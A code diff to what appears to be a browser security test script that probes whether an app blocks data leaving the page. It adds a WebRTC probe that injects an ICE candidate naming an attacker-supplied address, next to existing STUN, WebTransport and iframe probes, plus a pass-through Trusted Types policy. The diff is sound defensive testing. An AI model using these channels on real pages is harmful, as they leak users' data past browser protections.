@@ -3,7 +3,7 @@
  * the script element. It makes a Trusted Types policy under the name that the app uses, since the app does not run
  * here: the attacks must be stopped by more than that.
  */
-const { channel, attacker, sockets, connections, stun, quic } = document.currentScript.dataset;
+const { channel, attacker, sockets, connections, stun, quic, peer } = document.currentScript.dataset;
 const types = globalThis.trustedTypes?.createPolicy('hushlabel', {
   createHTML: (text) => text,
   createScript: (text) => text,
@@ -74,6 +74,16 @@ const PROBES = {
     const peer = new RTCPeerConnection({ iceServers: [{ urls: stun }] });
     peer.createDataChannel('x');
     await peer.setLocalDescription(await peer.createOffer());
+  },
+  // Two ends in one page agree on a connection; then one is told that the other can also be reached at the attacker.
+  'webrtc-peer': async () => {
+    const [here, there] = [new RTCPeerConnection(), new RTCPeerConnection()];
+    here.createDataChannel('x');
+    await here.setLocalDescription(await here.createOffer());
+    await there.setRemoteDescription(here.localDescription);
+    await there.setLocalDescription(await there.createAnswer());
+    await here.setRemoteDescription(there.localDescription);
+    await here.addIceCandidate({ candidate: `candidate:1 1 udp 2130706431 ${peer} typ host`, sdpMid: '0' });
   },
   webtransport: () => new WebTransport(`${quic}/x/${channel}`).ready,
   'iframe-srcdoc-img': () => add('iframe', { srcdoc: markup(picture()) }),
